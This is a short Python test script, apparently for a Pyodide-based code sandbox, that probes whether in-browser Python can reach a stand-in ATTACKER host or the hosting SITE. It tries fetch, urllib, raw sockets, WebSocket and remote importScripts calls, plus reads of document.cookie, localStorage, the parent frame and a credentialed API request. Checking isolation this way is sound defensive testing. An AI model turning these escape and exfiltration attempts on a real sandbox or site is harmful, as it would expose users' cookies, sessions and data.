# Tries to reach what must be out of reach, from Python. ATTACKER, SITE as in javascript.js.
import asyncio
import http.client
import socket
import urllib.request

import js
from pyodide.http import open_url, pyfetch


def http_client():
    connection = http.client.HTTPConnection(ATTACKER.removeprefix("http://"), timeout=1)
    connection.request("GET", "/http-client")
    return connection.getresponse().status


async def answered(url):
    return (await js.fetch(url)).status


async def opened(url):
    socket = js.WebSocket.new(url)
    while socket.readyState == 0:
        await asyncio.sleep(0.01)
    if socket.readyState != 1:
        raise OSError("closed")


tries = {
    "pyfetch": lambda: pyfetch(ATTACKER + "/pyfetch"),
    "pyfetch-api": lambda: pyfetch(SITE + "/api/rooms", credentials="include"),
    "open_url": lambda: open_url(ATTACKER + "/open_url"),
    "urllib": lambda: urllib.request.urlopen(ATTACKER + "/urllib", timeout=1),
    "http.client": http_client,
    "socket": lambda: socket.create_connection(("127.0.0.1", int(ATTACKER.rsplit(":")[-1])), timeout=1).send(b"GET /socket HTTP/1.0\r\n\r\n"),
    "js.fetch": lambda: answered(ATTACKER + "/js.fetch"),
    "js.importScripts": lambda: js.importScripts(ATTACKER + "/js.importScripts"),
    "js.WebSocket": lambda: opened(ATTACKER.replace("http", "ws") + "/js.WebSocket"),
    "js.document": lambda: js.document.cookie,
    "js.localStorage": lambda: js.localStorage.getItem("x"),
    "js.parent": lambda: js.parent.document,
    "js.caches": lambda: js.caches.open("fourhands-runner"),
}


async def main():
    for name, attempt in tries.items():
        try:
            result = attempt()
            if hasattr(result, "__await__"):
                result = await asyncio.wait_for(result, 1.5)
            print(name, "REACHED", str(result)[:60])
        except BaseException as error:
            print(name, "blocked")
    print("done")


asyncio.run(main())
